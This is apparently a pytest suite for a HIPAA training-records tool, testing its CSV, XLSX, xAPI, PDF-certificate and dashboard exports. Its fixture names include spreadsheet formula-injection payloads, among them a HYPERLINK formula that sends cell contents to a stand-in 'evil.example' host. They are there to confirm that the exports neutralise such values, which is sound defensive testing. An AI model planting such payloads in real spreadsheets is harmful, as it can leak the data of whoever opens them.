"""The manager's exports: CSV, XLSX, xAPI, PDF certificates and plots, written from one canonical
record and read back to the same meaning."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hipaa_lab.cli import main
from hipaa_lab.ledger import Entry, Ledger, load_public_key
from hipaa_lab.records import certificate, dashboard, events, export, status
from hipaa_lab.records.curricula import load_curricula
from hipaa_lab.records.roster import Employee, EmploymentStatus, Role, import_roster

K = events.RecordKind
S = status.Standing
M1, M2 = "m01-phi-in-images", "m02-deidentifying-images"
V1, V2 = "a1" * 32, "b2" * 32
AS_OF = dt.date(2026, 6, 1)
#: Awkward names: commas, quotes, line breaks, non-ASCII, and every formula prefix.
AWKWARD = {
    "E01": ('O\'Brien, "Shay" Jr.', "Radiology"),
    "E02": ("Zoë Ñúñez-Ødegaard\nsecond line", "Imaging IT"),
    "E03": ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "Radiology"),
    "E04": ("+1 Lindqvist", "-2 Basement Imaging"),
    "E05": ("@SUM(A1:A9)", "Radiology"),
    "E06": ("\tTabbed\rName", "Imaging IT"),
    "E07": ("'=already quoted", "Radiology"),
    "E08": ("山田 花子", "Imaging IT"),
    "E09": ("Avery Quinlan", "Front Desk"),
    "E10": ("-", "Front Desk"),
    "E11": ("Lit_x000D_eral\r\n\x0b\x00", "Radiology"),  # OOXML's escape, CRLF, controls
}
ROLES = {"E02": Role.PACS_ADMIN, "E08": Role.RADIOLOGIST, "E09": Role.FRONT_DESK}


def _graded(log, eid, module, day, score, max_score=10.0, version=V1):
    at = f"{day.isoformat()}T10:00:00+00:00"
    base = {"at": at, "employee_id": eid, "module": module, "version": version}
    verdict = K.PASSED if score >= 0.8 * max_score else K.FAILED
    log.append_many(
        [
            (K.GRADED.value, {**base, "max_score": max_score, "score": score}),
            (verdict.value, {**base, "max_score": max_score, "score": score, "threshold": 0.8}),
        ]
    )


def _build(log):
    people = [
        Employee(
            eid,
            name,
            "" if eid == "E05" else f"{eid.lower()}@example.org",  # E05 has no email
            ROLES.get(eid, Role.TECHNOLOGIST),
            dept,
            dt.date(2025, 9, 1) if eid != "E10" else dt.date(2026, 5, 20),
            EmploymentStatus.ACTIVE,
        )
        for eid, (name, dept) in AWKWARD.items()
    ]
    import_roster(log, people)
    _graded(log, "E01", M1, dt.date(2025, 9, 20), 9.0)
    _graded(log, "E01", M2, dt.date(2025, 9, 21), 8.5)
    _graded(log, "E02", M1, dt.date(2025, 9, 10), 10.0)
    _graded(log, "E02", M2, dt.date(2025, 9, 25), 6.0)  # failed, never passed: overdue
    _graded(log, "E03", M1, dt.date(2025, 9, 15), 8.0)  # on the mark
    _graded(log, "E04", M1, dt.date(2025, 6, 1), 9.0)  # before hire, stays current a year
    _graded(log, "E05", M1, dt.date(2025, 9, 30), 9.5)
    _graded(log, "E08", M1, dt.date(2025, 9, 29), 7.0)
    _graded(log, "E08", M1, dt.date(2025, 10, 2), 9.0)  # a retake passes
    _graded(log, "E09", M1, dt.date(2026, 2, 15), 9.0)  # late: overdue from October to February
    _graded(log, "E06", M1, dt.date(2026, 4, 1), 10.0)  # late too
    log.append(
        K.ATTESTED.value,
        {
            "employee_id": "E01",
            "module": M1,
            "version": V1,
            "at": "2025-09-20T10:05:00+00:00",
            "statement": "I have read the policy",
        },
    )
    log.append(
        K.WAIVED.value,
        {
            "employee_id": "E06",
            "module": M2,
            "reason": "trained elsewhere",
            "by": "mgr",
            "at": "2025-10-01",
        },
    )
    log.append(
        K.RETRAINING_REQUIRED.value,
        {"at": "2026-05-10", "module": M2, "version": V2, "reason": "new policy", "by": "t"},
    )


@pytest.fixture(scope="module")
def curricula():
    return load_curricula()


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = tmp_path_factory.mktemp("ledger") / "records.db"
    with Ledger(path) as log:
        _build(log)
    return path


@pytest.fixture(scope="module")
def log(db):
    with Ledger(db) as lg:
        yield lg


@pytest.fixture(scope="module")
def recs(log, curricula):
    rows = status.training_status(log, curricula, AS_OF)
    standings = {r.status for r in rows}
    assert standings == set(S), f"the fixture should cover every standing, has {standings}"
    return rows


@pytest.fixture(scope="module")
def certificates(tmp_path_factory, log, recs):
    """The certificates of ``recs``' passes, written once (fpdf2 takes about a second each)."""
    out = tmp_path_factory.mktemp("certificates")
    cp = log.checkpoint()
    return out, certificate.write_certificates(recs, log, cp, out)


def _sans_graded_on(records):
    """The records as CSV and XLSX carry them (the day of a failed grade is xAPI's alone)."""
    return [dataclasses.replace(r, graded_on=None) for r in records]


# ----------------------------------------------------------------------- neutralisation


@given(st.text())
def test_restore_undoes_neutralise_exactly_and_nothing_is_left_formula_like(text):
    cell = export.neutralise(text)
    assert export.restore(cell) == text
    assert not cell[:1] or cell[0] not in "=+-@\t\r"


@given(st.text())
def test_xlsx_text_escapes_what_xml_cannot_hold_and_reads_back_exactly(text):
    cell = export._xlsx_text(text)
    assert export._xlsx_read_text(cell) == text
    assert not export._XML_UNSAFE.search(cell)


def test_neutralise_prefixes_one_quote_only_where_a_spreadsheet_would_run_a_formula():
    assert export.neutralise("=1+1") == "'=1+1"
    assert export.neutralise("-2") == "'-2"
    assert export.neutralise("\rx") == "'\rx"
    assert export.neutralise("O'Brien") == "O'Brien"
    assert export.neutralise("'quoted") == "'quoted"
    assert export.restore("'quoted") == "'quoted"


# ----------------------------------------------------------------------- CSV


def test_csv_round_trips_awkward_names_and_neutralises_formulas(tmp_path, recs):
    path = export.write_csv(recs, tmp_path / "r.csv")
    assert export.read_csv(path) == _sans_graded_on(recs)
    raw = path.read_bytes()
    assert raw.decode("utf-8")  # UTF-8, no byte-order mark
    assert not raw.startswith(b"\xef\xbb\xbf")
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == export.EXPORT_COLUMNS
    assert len(rows) == len(recs) + 1
    assert all(len(row) == len(export.EXPORT_COLUMNS) for row in rows)
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"formula-like cell {cell!r}"
    names = {row[1] for row in rows[1:]}
    assert "'" + AWKWARD["E03"][0] in names  # the HYPERLINK, quoted
    assert "'+1 Lindqvist" in names and "'@SUM(A1:A9)" in names and "'-" in names
    assert "''=already quoted" in names  # one more quote, so reading back is exact
    assert 'O\'Brien, "Shay" Jr.' in names and "山田 花子" in names
    assert "'-2 Basement Imaging" in {row[3] for row in rows[1:]}
    assert "Zoë Ñúñez-Ødegaard\nsecond line" in names


def test_a_csv_with_another_header_is_refused(tmp_path):
    bad = tmp_path / "other.csv"
    bad.write_text("a,b\n1,2\n")
    with pytest.raises(ValueError, match="expected"):
        export.read_csv(bad)


# ----------------------------------------------------------------------- XLSX


def test_xlsx_has_a_sheet_per_view_frozen_headers_real_dates_and_no_formulas(tmp_path, recs):
    from openpyxl import load_workbook

    path = export.write_xlsx(recs, tmp_path / "r.xlsx")
    assert export.read_xlsx(path) == _sans_graded_on(recs)
    overdue = [r for r in recs if r.status is S.OVERDUE]
    assert overdue and export.read_xlsx(path, "Overdue") == _sans_graded_on(overdue)

    wb = load_workbook(path)
    assert wb.sheetnames == ["Records", "Overdue", "By department"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r")
    ws = wb["Records"]
    col = {name: i for i, name in enumerate(export.EXPORT_COLUMNS)}
    rows = list(ws.iter_rows(min_row=2))
    passed = [row[col["passed_date"]] for row in rows if row[col["passed_date"]].value]
    assert passed and all(c.is_date and isinstance(c.value, dt.datetime) for c in passed)
    assert all(row[col["due_date"]].is_date for row in rows if row[col["due_date"]].value)
    scores = [row[col["score"]].value for row in rows if row[col["score"]].value is not None]
    assert scores and all(isinstance(s, int | float) for s in scores)  # numbers, not text
    assert {row[col["name"]].value for row in rows} >= {"'" + AWKWARD["E03"][0], "山田 花子"}
    assert "'\tTabbed_x000D_Name" in {row[col["name"]].value for row in rows}

    summary = list(wb["By department"].iter_rows(values_only=True))
    header = summary[0]
    for department, module, *counts in summary[1:]:
        mine = [r for r in recs if (r.department, r.module) == (export.restore(department), module)]
        by = dict(zip(header[2:], counts, strict=True))
        assert by["total"] == len(mine)
        for s in S:
            assert by[s.value] == sum(r.status is s for r in mine)


def test_openpyxl_alone_would_store_a_formula(tmp_path):
    """Why the XLSX neutralises: openpyxl takes a string starting with = for a formula."""
    from openpyxl import Workbook

    ws = Workbook().active
    ws.append(['=HYPERLINK("http://evil.example","x")'])
    assert ws["A1"].data_type == "f"


# ----------------------------------------------------------------------- xAPI


def test_every_xapi_statement_validates_and_keeps_its_score_in_bounds(recs, curricula):
    from ralph.models.xapi.base.statements import BaseXapiStatement

    statements = export.xapi_statements(recs, titles=curricula.titles)
    graded = [r for r in recs if r.score is not None]
    assert len(statements) == 2 * len(graded)
    assert any(r.score is None for r in recs)  # never graded or waived: no statement
    verbs = {s["verb"]["id"].rsplit("/", 1)[1] for s in statements}
    assert verbs == {"completed", "passed", "failed"}
    ids = set()
    for s in statements:
        BaseXapiStatement.model_validate(s)  # raises on any breach of the xAPI rules it knows
        assert s["version"] == "1.0.3"
        ids.add(s["id"])
        score = s["result"]["score"]
        # ralph checks min <= raw only when min is truthy (not 0): check it ourselves
        assert -1 <= score["scaled"] <= 1
        assert score["min"] <= score["raw"] <= score["max"]
        assert score["min"] < score["max"]
        assert score["scaled"] == pytest.approx(
            (score["raw"] - score["min"]) / (score["max"] - score["min"]), abs=1e-4
        )
        assert isinstance(s["result"]["success"], bool) and s["result"]["completion"] is True
        actor = s["actor"]
        assert ("mbox" in actor) != ("account" in actor)
        if "mbox" in actor:
            assert actor["mbox"].startswith("mailto:")
        ext = s["context"]["extensions"]
        assert all(k.startswith(export.XAPI_BASE + "/ext/") for k in ext)
        assert s["object"]["objectType"] == "Activity"
        assert s["object"]["id"].startswith(export.XAPI_BASE + "/activities/module/")
        assert dt.datetime.fromisoformat(s["timestamp"]).tzinfo is not None
    assert len(ids) == len(statements)
    assert export.xapi_statements(recs, titles=curricula.titles) == statements  # stable ids


def test_the_xapi_validator_refuses_a_broken_statement(recs):
    """The validation is real: the library refuses what breaks xAPI's rules."""
    from pydantic import ValidationError
    from ralph.models.xapi.base.statements import BaseXapiStatement

    good = export.xapi_statements(recs)[0]
    for broken in (
        {**good, "result": {**good["result"], "score": {**good["result"]["score"], "scaled": 2}}},
        {**good, "actor": {"objectType": "Agent", "mbox": "not-an-email"}},
        {**good, "verb": {"id": "completed"}},
        {**good, "timestamp": "yesterday"},
        {**good, "version": "2.0.0"},
    ):
        with pytest.raises(ValidationError):
            BaseXapiStatement.model_validate(broken)
    # ...but skips min <= raw when min is 0 (a falsy min): why our own bounds assertions stay
    lax = {**good, "result": {**good["result"], "score": {"raw": -5, "min": 0, "max": 100}}}
    assert BaseXapiStatement.model_validate(lax).result.score.raw == Decimal(-5)


# ----------------------------------------------------------------------- PDF


def test_a_certificate_carries_its_receipt_which_verifies_and_names_its_entry(
    log, recs, certificates
):
    tmp_path, written = certificates
    passed = [r for r in recs if r.passed_on is not None]
    assert sorted(p.name for p in written) == sorted(
        certificate.certificate_name(r) for r in passed
    )
    for r in passed:
        path = tmp_path / certificate.certificate_name(r)
        receipt = certificate.read_receipt(path)
        assert receipt.verify(log.public_key())
        entry = Entry.from_data(receipt.entry)
        assert (entry.index, hashlib.sha256(receipt.entry).hexdigest()) == (
            r.entry_index,
            r.entry_hash,
        )
        assert entry.kind == K.PASSED.value
        body = entry.body
        assert (body["employee_id"], body["module"], body["version"]) == (
            r.employee_id,
            r.module,
            r.module_version,
        )
        assert round(100 * body["score"] / body["max_score"], 1) == r.score
        facts = certificate.read_certificate(path)
        assert facts["name"] == r.name and facts["ledger_hash"] == r.entry_hash


def test_a_certificate_renders_as_a_page_with_ink(tmp_path, log, recs):
    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed: scripts/install-system-packages.sh")
    from PIL import Image, ImageStat

    r = next(r for r in recs if r.employee_id == "E02" and r.passed_on)
    cp = log.checkpoint()
    path = certificate.write_certificate(
        r, log.receipt(r.entry_index, cp), tmp_path / "c.pdf", title="PHI in medical images"
    )
    subprocess.run(["pdftoppm", "-r", "40", "-png", str(path), str(tmp_path / "c")], check=True)
    pages = sorted(tmp_path.glob("c-*.png"))
    assert len(pages) == 2
    with Image.open(pages[0]) as im:
        assert im.width > im.height  # landscape
        assert ImageStat.Stat(im.convert("L")).stddev[0] > 10  # not a blank page
    from pypdf import PdfReader

    text = PdfReader(path).pages[0].extract_text()
    assert "CERTIFICATE OF TRAINING" in text and r.entry_hash[:16] in text


def test_a_forged_certificate_receipt_fails_and_a_plain_pdf_is_a_usage_error(
    tmp_path, log, recs, capsys
):
    r = next(r for r in recs if r.passed_on)
    cp = log.checkpoint()
    receipt = log.receipt(r.entry_index, cp)
    forged_entry = receipt.entry.replace(b'"score":', b'"score":1', 1)
    forged = dataclasses.replace(receipt, entry=forged_entry)
    path = certificate.write_certificate(r, forged, tmp_path / "forged.pdf")
    pub = tmp_path / "ledger.pub"
    log.export_public_key(pub)
    assert main(["records", "verify-receipt", str(path), "--public-key", str(pub)]) == 1
    from fpdf import FPDF

    plain = FPDF()
    plain.add_page()
    (tmp_path / "plain.pdf").write_bytes(bytes(plain.output()))
    args = ["records", "verify-receipt", str(tmp_path / "plain.pdf"), "--public-key", str(pub)]
    assert main(args) == 2
    assert "no receipt.json attached" in capsys.readouterr().err
    (tmp_path / "noise.bin").write_bytes(bytes(range(256)))
    args = ["records", "verify-receipt", str(tmp_path / "noise.bin"), "--public-key", str(pub)]
    assert main(args) == 2
    assert "expected a receipt (JSON" in capsys.readouterr().err


# ----------------------------------------------------------------------- the four agree


def test_the_four_formats_agree_with_the_canonical_records(
    tmp_path, log, recs, curricula, certificates
):
    out = tmp_path / "out"
    export.write_csv(recs, out / "r.csv")
    export.write_xlsx(recs, out / "r.xlsx")
    export.write_xapi(recs, out / "x.json", titles=curricula.titles)

    canonical = _sans_graded_on(recs)
    assert export.read_csv(out / "r.csv") == canonical
    assert export.read_xlsx(out / "r.xlsx") == canonical

    verdicts = {(v["actor"], v["module"]): v for v in export.read_xapi(out / "x.json")}
    for r in recs:
        actor = f"mailto:{r.email}" if r.email else r.employee_id
        v = verdicts.pop((actor, r.module), None)
        if r.score is None:
            assert v is None
            continue
        assert v is not None
        assert v["score"] == r.score and v["module_version"] == r.module_version
        assert v["success"] is (r.passed_on is not None)
        assert v["verb"] == ("passed" if r.passed_on else "failed")
        assert v["day"] == (r.passed_on or r.graded_on)
        assert v["entry_hash"] == r.entry_hash
    assert not verdicts

    pdfs = {p.name: p for p in certificates[0].glob("*.pdf")}
    for r in recs:
        pdf = pdfs.pop(certificate.certificate_name(r), None)
        assert (pdf is not None) is (r.passed_on is not None)
        if pdf is None:
            continue
        facts = certificate.read_certificate(pdf)
        assert facts["employee_id"] == r.employee_id and facts["name"] == r.name
        assert facts["module"] == r.module and facts["module_version"] == r.module_version
        assert facts["department"] == r.department and facts["score"] == r.score
        assert dt.date.fromisoformat(facts["passed_date"]) == r.passed_on
        assert facts["ledger_entry"] == r.entry_index and facts["ledger_hash"] == r.entry_hash
        receipt = certificate.read_receipt(pdf)
        assert hashlib.sha256(receipt.entry).hexdigest() == r.entry_hash
        assert receipt.verify(log.public_key())
    assert not pdfs


# ----------------------------------------------------------------------- dashboard


def test_the_dashboard_plots_completion_and_overdue_over_time(tmp_path, log, recs, curricula):
    from PIL import Image

    days = [AS_OF - dt.timedelta(weeks=w) for w in range(40, -1, -4)]
    series = dashboard.overdue_over_time(log, curricula, days)
    assert [d for d, _ in series] == days
    for day, n in series:
        rows = status.training_status(log, curricula, day)
        assert n == sum(r.status is S.OVERDUE for r in rows)
    assert series[-1][1] == sum(r.status is S.OVERDUE for r in recs) > series[0][1]
    counts = dashboard.completion_counts(recs)
    assert sum(sum(c.values()) for c in counts.values()) == len(recs)
    written = dashboard.write_dashboard(recs, series, tmp_path, as_of=AS_OF)
    assert [p.name for p in written] == [dashboard.COMPLETION_PNG, dashboard.OVERDUE_PNG]
    for p in written:
        with Image.open(p) as im:
            assert im.format == "PNG" and im.width >= 600 and im.height >= 300


@pytest.mark.parametrize("departments", [3, 10])
def test_the_completion_plot_is_a_readable_grid_at_a_sensible_width(
    tmp_path, curricula, departments
):
    """A cell per department and module (not a bar each: 21 bars were 2,794 pixels wide), each
    cell saying its share current, current of all and overdue."""
    import random

    from PIL import Image

    rng = random.Random(departments)
    modules = curricula.modules()
    recs = [
        status.TrainingRecord(f"E{i}", "n", "", f"Department {i % departments}", "technologist",
                              m, "v", rng.choice(list(S)), None, None, None, False)
        for i in range(40 * departments)
        for m in modules
        if not (i % departments == 0 and m == modules[3])  # no one there takes it: grey
    ]  # fmt: skip
    written = dashboard.write_dashboard(recs, [(AS_OF, 1)], tmp_path, as_of=AS_OF)
    with Image.open(written[0]) as im:
        assert 900 <= im.width <= 1600 and 300 <= im.height <= 1600, im.size
    fig = dashboard._completion_figure(recs, AS_OF)
    texts = {t.get_text() for t in fig.axes[0].texts}
    counts = dashboard.completion_counts(recs)
    assert len(counts) == departments * len(modules) - 1
    for c in counts.values():
        current, total, late = c[S.CURRENT], c.total(), c[S.OVERDUE]
        assert f"{100 * current / total:.0f}%" in texts
        assert f"{current}/{total} current" + (f"\n{late} overdue" if late else "") in texts
    labels = [t.get_text() for t in fig.axes[0].get_xticklabels()]
    assert labels[0] == "m01\nphi in images" and len(labels) == len(modules)
    assert [t.get_text() for t in fig.axes[0].get_yticklabels()] == sorted(
        {r.department for r in recs}
    )


# ----------------------------------------------------------------------- the command


def test_the_export_command_writes_each_format_and_a_certificate_verifies(
    tmp_path, db, recs, capsys
):
    out = tmp_path / "exports"
    base = ["--db", f"sqlite:///{db}", "--as-of", AS_OF.isoformat()]
    for fmt in ("csv", "xlsx", "xapi", "pdf", "dashboard"):
        assert main(["records", "export", "--format", fmt, "--out", str(out), *base]) == 0
    printed = capsys.readouterr().out
    for name in (
        "training-records.csv",
        "training-records.xlsx",
        "xapi-statements.json",
        "checkpoint.json",
        "ledger.pub",
        dashboard.COMPLETION_PNG,
        dashboard.OVERDUE_PNG,
        "E01_m01-phi-in-images.pdf",
    ):
        assert (out / name).is_file(), name
        assert str(out / name) in printed
    assert not list(out.glob(".*.tmp"))
    assert export.read_csv(out / "training-records.csv") == _sans_graded_on(recs)
    assert export.read_xlsx(out / "training-records.xlsx") == _sans_graded_on(recs)
    assert len(export.read_xapi(out / "xapi-statements.json")) == sum(
        r.score is not None for r in recs
    )
    cert = out / "E01_m01-phi-in-images.pdf"
    pub = out / "ledger.pub"
    assert main(["records", "verify-receipt", str(cert), "--public-key", str(pub)]) == 0
    assert "receipt verifies" in capsys.readouterr().out
    # the certificate's checkpoint is the one written beside it
    receipt = certificate.read_receipt(cert)
    assert receipt.checkpoint.to_json() == (out / "checkpoint.json").read_text().strip()
    assert receipt.verify(load_public_key(pub))
    with pytest.raises(SystemExit) as exc:
        main(["records", "export", "--format", "csv", "--out", str(out), "--as-of", "2026-13-01"])
    assert exc.value.code == 2
    assert "expected YYYY-MM-DD" in capsys.readouterr().err


def _export(db, out, fmt, *extra):
    base = ["--db", f"sqlite:///{db}", "--as-of", AS_OF.isoformat()]
    return main(["records", "export", "--format", fmt, "--out", str(out), *base, *extra])


def test_an_export_without_a_selection_is_every_record_byte_for_byte(tmp_path, db, recs):
    assert _export(db, tmp_path / "cli", "csv") == 0
    export.write_csv(recs, tmp_path / "all.csv")
    cli = (tmp_path / "cli" / "training-records.csv").read_bytes()
    assert cli == (tmp_path / "all.csv").read_bytes()


@pytest.mark.parametrize(
    ("extra", "wanted"),
    [
        (["--employee", "E01", "--employee", "E08"], lambda r: r.employee_id in {"E01", "E08"}),
        (["--module", M2], lambda r: r.module == M2),
        (["--department", "Imaging IT"], lambda r: r.department == "Imaging IT"),
        (["--since", "2025-09-25"], lambda r: r.passed_on and r.passed_on >= dt.date(2025, 9, 25)),
        (["--department", "Radiology", "--module", M1], lambda r: (r.department, r.module) == ("Radiology", M1)),
    ],
)  # fmt: skip
def test_an_export_selects_by_employee_module_department_and_pass_day(
    tmp_path, db, recs, capsys, extra, wanted
):
    selected = [r for r in recs if wanted(r)]
    passes = [r for r in selected if r.passed_on]
    assert selected and passes and len(selected) < len(recs)
    for fmt in ("csv", "xlsx", "xapi", "pdf"):
        assert _export(db, tmp_path / fmt, fmt, *extra) == 0
    assert export.read_csv(tmp_path / "csv" / "training-records.csv") == _sans_graded_on(selected)
    assert export.read_xlsx(tmp_path / "xlsx" / "training-records.xlsx") == _sans_graded_on(
        selected
    )
    statements = export.read_xapi(tmp_path / "xapi" / "xapi-statements.json")
    assert len(statements) == sum(r.score is not None for r in selected)
    pdfs = sorted(p.name for p in (tmp_path / "pdf").glob("*.pdf"))
    assert pdfs == sorted(certificate.certificate_name(r) for r in passes)
    err = capsys.readouterr().err
    assert f"pdf: {len(passes)} certificates to write, one a pass (" in err


@pytest.mark.parametrize(
    ("extra", "named"),
    [
        (["--employee", "E01", "--employee", "E99"], "no employee 'E99' on the roster"),
        (["--module", "m99-no-such-module"], "no module 'm99-no-such-module' in the curricula"),
        (["--department", "Cardiology"], "no department 'Cardiology' on the roster"),
    ],
)
def test_an_unknown_employee_module_or_department_is_a_usage_error(
    tmp_path, db, capsys, extra, named
):
    assert _export(db, tmp_path / "out", "pdf", *extra) == 2
    assert named in capsys.readouterr().err
    assert not (tmp_path / "out").exists()  # nothing written, not an empty export


def test_the_dashboard_takes_no_selection(tmp_path, db, log, capsys):
    assert _export(db, tmp_path / "out", "dashboard", "--module", M1) == 2
    assert "the dashboard plots the whole workforce" in capsys.readouterr().err
    with pytest.raises(ValueError, match="whole workforce"):
        export.write_export(
            "dashboard",
            log,
            load_curricula(),
            tmp_path,
            as_of=AS_OF,
            selection=export.Selection(modules=frozenset({M1})),
        )


def test_many_certificates_of_everyone_say_how_to_select_fewer(tmp_path, db, capsys, monkeypatch):
    from hipaa_lab.records import commands

    assert _export(db, tmp_path / "a", "pdf") == 0
    err = capsys.readouterr().err
    assert "certificates to write, one a pass\n" in err and "select fewer" not in err
    monkeypatch.setattr(commands, "MANY_CERTIFICATES", 3)
    assert _export(db, tmp_path / "b", "pdf") == 0
    assert "select fewer with --employee, --module, --department or --since" in (
        capsys.readouterr().err
    )


def test_certificates_show_their_progress_when_asked(tmp_path, log, recs, capsys):
    passes = [r for r in recs if r.passed_on][:2]
    certificate.write_certificates(passes, log, log.checkpoint(), tmp_path / "a", progress=True)
    assert "2/2" in capsys.readouterr().err  # tqdm's bar, on standard error
    certificate.write_certificates(passes, log, log.checkpoint(), tmp_path / "b")
    assert capsys.readouterr().err == ""


def test_an_export_cuts_each_font_once_for_all_its_certificates(tmp_path, log, recs, monkeypatch):
    from pypdf import PdfReader

    cuts = []
    cut = certificate.FontBook._cut
    monkeypatch.setattr(
        certificate.FontBook, "_cut", lambda self, path, chars: cuts.append(path) or cut(self, path, chars)
    )  # fmt: skip
    written = certificate.write_certificates(recs, log, log.checkpoint(), tmp_path)
    assert len(written) > 5
    fallback = [p for p in certificate._FALLBACK_FONTS if p.exists()]
    assert len(cuts) == len(certificate._FACES) + len(fallback)  # not once a certificate
    for r in recs:
        if r.passed_on and (r.employee_id in {"E02", "E08"} or not fallback):
            text = PdfReader(tmp_path / certificate.certificate_name(r)).pages[0].extract_text()
            assert r.name.split()[0] in text  # the cut fonts have the name's glyphs
    cuts.clear()  # one certificate alone: the whole fonts, no cutting (it costs three)
    r = next(r for r in recs if r.passed_on)
    cp = log.checkpoint()
    certificate.write_certificate(r, log.receipt(r.entry_index, cp), tmp_path / "one.pdf")
    assert cuts == []


# ----------------------------------------------------------------------- crash safety

_WRITER = """
import datetime as dt, sys
from hipaa_lab.records import export
from hipaa_lab.records.status import Standing, TrainingRecord
recs = [TrainingRecord(f"E{i}", f"Name, {i}", f"e{i}@example.org", "Radiology", "technologist",
        "m01-phi-in-images", "v", Standing.CURRENT, 90.0, dt.date(2026, 1, 1),
        dt.date(2027, 1, 1), True) for i in range(int(sys.argv[2]))]
print("ready", flush=True)
while True:
    export.write_csv(recs, sys.argv[1])
"""


def test_a_kill_9_during_an_export_leaves_no_half_written_file(tmp_path):
    target = tmp_path / "training-records.csv"
    n = 60_000
    for delay in (0.15, 0.4, 0.9):
        proc = subprocess.Popen(
            [sys.executable, "-c", _WRITER, str(target), str(n)],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        visible = [p for p in tmp_path.iterdir() if not p.name.startswith(".")]
        assert visible in ([], [target])
        if visible:
            assert len(export.read_csv(target)) == n  # whole, never a prefix
    working = tmp_path / f".{target.name}.{os.getpid()}.abc.tmp"  # a writer still at work
    working.write_text("")
    export.write_csv([], target)  # the next export clears what a killed one left
    working.unlink()  # and left the live writer's file alone
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
    with open(target, newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == list(export.EXPORT_COLUMNS)


def test_the_csv_fast_path_writes_what_the_general_cell_rules_write(tmp_path):
    """write_csv builds its cells in one step; they are those _row and _text make, for awkward
    and formula-like values alike."""
    import random

    from hipaa_lab.records.status import Standing, TrainingRecord

    rng = random.Random(7)
    awkward = ["", "a", "=x", "'=y", "-1", "+", "@s", "\tt", "\rr", "''-z", "O'Neil", "'",
               'ü,"\n', "a\0=b", "\0"]  # fmt: skip
    plain = ["", "a", "O'Neil", 'ü,"\n', "a\0b"]  # nothing to neutralise: a column at once

    def record(texts):
        return TrainingRecord(
            *(rng.choice(texts) for _ in range(7)),
            rng.choice(list(Standing)),
            rng.choice([None, 90.0, -5.0] if texts is awkward else [None, 90.0, 90, 7.5]),
            rng.choice([None, dt.date(2026, 1, 2)]),
            rng.choice([None, dt.date(2026, 3, 2)]),
            rng.choice([True, False]),
            rng.choice(texts),
            rng.choice([None, 3]),
            rng.choice(texts),
        )

    for texts in (awkward, plain):
        records = [record(texts) for _ in range(3000)]
        expected = [tuple(export._text(v) for v in export._row(r).values()) for r in records]
        assert list(export._csv_rows(records)) == expected
        # and the file holds what the csv module writes of those rows
        written = export.write_csv(records, tmp_path / "records.csv").read_bytes()
        by_csv = io.StringIO(newline="")
        writer = csv.writer(by_csv, quoting=csv.QUOTE_MINIMAL)
        writer.writerow(export.EXPORT_COLUMNS)
        writer.writerows(expected)
        assert written == by_csv.getvalue().encode()
    assert export.write_csv([], tmp_path / "none.csv").read_text().splitlines() == [
        ",".join(export.EXPORT_COLUMNS)
    ]
